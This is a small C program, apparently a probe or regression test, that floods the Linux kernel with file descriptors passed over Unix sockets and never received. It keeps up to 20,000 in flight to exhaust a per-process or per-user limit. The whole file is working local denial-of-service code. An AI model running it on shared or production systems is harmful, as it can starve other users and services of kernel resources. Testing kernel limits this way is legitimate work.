// flight-attack: sends descriptors that are never received, as many as the kernel lets this process have in flight, and keeps them.

#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <unistd.h>

#define AT_ONCE 253
#define MOST 20000

int main(void) {
  struct rlimit limit;
  int ends[2] = {-1, -1}, sent = 0;
  union {
    char bytes[CMSG_SPACE(AT_ONCE * sizeof(int))];
    struct cmsghdr align;
  } control = {0};
  char byte = 0;
  struct iovec part = {&byte, 1};
  if (getrlimit(RLIMIT_NOFILE, &limit) < 0) return 3;
  limit.rlim_cur = limit.rlim_max;
  if (setrlimit(RLIMIT_NOFILE, &limit) < 0) return 3;
  while (sent < MOST) {
    struct msghdr message = {.msg_iov = &part, .msg_iovlen = 1, .msg_control = control.bytes, .msg_controllen = sizeof control.bytes};
    struct cmsghdr *header = CMSG_FIRSTHDR(&message);
    header->cmsg_level = SOL_SOCKET;
    header->cmsg_type = SCM_RIGHTS;
    header->cmsg_len = CMSG_LEN(AT_ONCE * sizeof(int));
    memset(CMSG_DATA(header), 0, AT_ONCE * sizeof(int));
    if (ends[0] < 0 && socketpair(AF_UNIX, SOCK_STREAM, 0, ends) < 0) return 3;
    if (sendmsg(ends[0], &message, MSG_DONTWAIT | MSG_NOSIGNAL) == 1) sent += AT_ONCE;
    // Full: the next pair.
    else if (errno == EAGAIN) ends[0] = -1;
    else break;
  }
  printf("in flight %d: %s\n", sent, sent < MOST ? strerror(errno) : "all");
  fflush(stdout);
  sleep(30);
  return 0;
}
